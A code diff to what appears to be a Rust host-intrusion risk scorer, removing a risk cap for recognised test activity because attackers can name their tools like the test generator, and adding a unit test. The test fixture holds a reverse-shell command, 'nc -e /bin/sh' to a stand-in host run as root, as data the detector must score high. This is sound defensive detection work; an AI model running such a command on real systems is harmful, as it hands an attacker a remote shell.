@@ -18,8 +18,6 @@ const MAX_SIGNAL_BOOST: u8 = 10;
 const MAX_CONTEXT_BOOST: u8 = 8;
 /// Dual-use tools run by an administrator at a terminal on the host stay below Warning.
 const ADMIN_CAP: u8 = 45;
-/// Recognised test activity is capped below the Warning threshold.
-const TEST_ACTIVITY_CAP: u8 = 35;
 /// At most this many mitigations in a verdict.
 pub const MAX_MITIGATIONS: usize = 5;
 
@@ -62,9 +60,9 @@ pub fn risk(cx: &Ctx, found: &Findings) -> u8 {
     if cx.interactive_admin_on_host() && found.hits.iter().all(|h| dual_use(h.signal)) {
         risk = risk.min(ADMIN_CAP);
     }
-    if found.test_activity {
-        risk = risk.min(TEST_ACTIVITY_CAP);
-    }
+    // Test activity does not lower the risk: it is recognised by names (event-generator, its
+    // files) that an attacker can give their own tools. `triage.test_activity` marks it, and
+    // the rules route it to a low-priority rule an operator can see and tune.
     risk
 }
 
@@ -146,6 +144,27 @@ pub fn mitigations(found: &Findings) -> Vec<&'static Mitigation> {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::analysis::{analyze, Lineage};
+    use crate::facts::ExecFacts;
+
+    #[test]
+    fn test_activity_is_marked_not_scored_down() {
+        let nc = ExecFacts {
+            argv: ["nc", "-e", "/bin/sh", "example.com", "22"]
+                .map(String::from)
+                .to_vec(),
+            uid: Some(0),
+            res: Some(0),
+            cgroups_present: true,
+            ..Default::default()
+        };
+        let generator = analyze(&nc, &Lineage::from_comms(["event-generator"]));
+        let shell = analyze(&nc, &Lineage::from_comms(["bash"]));
+        assert!(generator.test_activity && !shell.test_activity);
+        assert!(generator.risk >= 80, "{}", generator.risk);
+        assert_eq!(generator.risk, shell.risk);
+        assert_eq!(generator.severity, shell.severity);
+    }
 
     #[test]
     fn severity_mapping_keeps_the_contract() {
